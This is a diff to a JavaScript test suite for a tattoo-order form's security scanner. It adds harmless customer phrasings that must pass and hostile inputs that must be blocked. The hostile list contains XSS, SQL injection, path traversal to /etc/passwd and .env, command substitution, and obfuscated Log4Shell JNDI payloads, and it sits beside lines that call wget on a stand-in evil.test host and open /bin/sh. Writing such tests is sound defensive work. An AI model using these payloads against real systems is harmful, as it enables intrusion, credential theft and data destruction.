@@ -237,6 +237,20 @@ describe("security scan of the whole payload", () => {
     "C:/Users isn't a path I care about; 100% custom, ~4 hrs, #blessed",
     "Can you do a snake eating its tail (ouroboros) - or maybe 2 snakes?",
     "Select from flash: #12 or #14, whichever is available; update me!",
+    // Quotes, "and"/"or", "=", "--", "../" and "${...}" in prose: each of these was once refused.
+    'About 3" and not bigger than my palm',
+    "The words 'Hope' and not 'Despair'",
+    'Script "Mom" and size = 3 inches',
+    '"Love" or Hope = two words',
+    "Lettering 'Family' --",
+    "I'd like 'Family' --",
+    "a sad expression (like a weeping angel)",
+    "Facial features: expression (sad), eyes closed",
+    "Dates 1990 ../ 2020 in roman numerals",
+    "Mandala $" + "{name} style",
+    "I'd like to select a rose & drop the stem",
+    "5'10\" tall, 3x4 in on the forearm",
+    "Mom & Dad; est. 1985",
   ];
 
   it.each(ordinary)("lets ordinary tattoo text through: %s", (text) => {
@@ -269,6 +283,25 @@ describe("security scan of the whole payload", () => {
     ["&& wget http://evil.test/x", "command"],
     ["| /bin/sh -i", "command"],
     ["$" + "{jndi:ldap://evil.test/a}", "command"],
+    ["<img src=x onerror=alert(1)>", "xss"],
+    ["javascript:alert(1)", "xss"],
+    ['style="x:expression(alert(1))"', "xss"],
+    ["' OR 1=1 --", "sql"],
+    ["' OR 'a'='a", "sql"],
+    ["') or ('x'='x", "sql"],
+    ["' or true--", "sql"],
+    ["admin' --", "sql"],
+    ["1; DROP TABLE users", "sql"],
+    ["UNION SELECT password FROM admins", "sql"],
+    ["..%2f..%2fetc%2fpasswd", "path"],
+    ["../.env", "path"],
+    ["$(curl evil)", "command"],
+    // The system file is the first thing recognised here, so it is reported as path traversal.
+    ["`cat /etc/passwd`", "path"],
+    ["$" + "{jndi:ldap://x}", "command"],
+    ["$" + "{$" + "{lower:j}ndi:ldap://x}", "command"],
+    ["$" + "{::-j}", "command"],
+    ["$" + "{7*7}", "command"],
   ];
 
   it.each(hostile)("blocks %s", (text, kind) => {
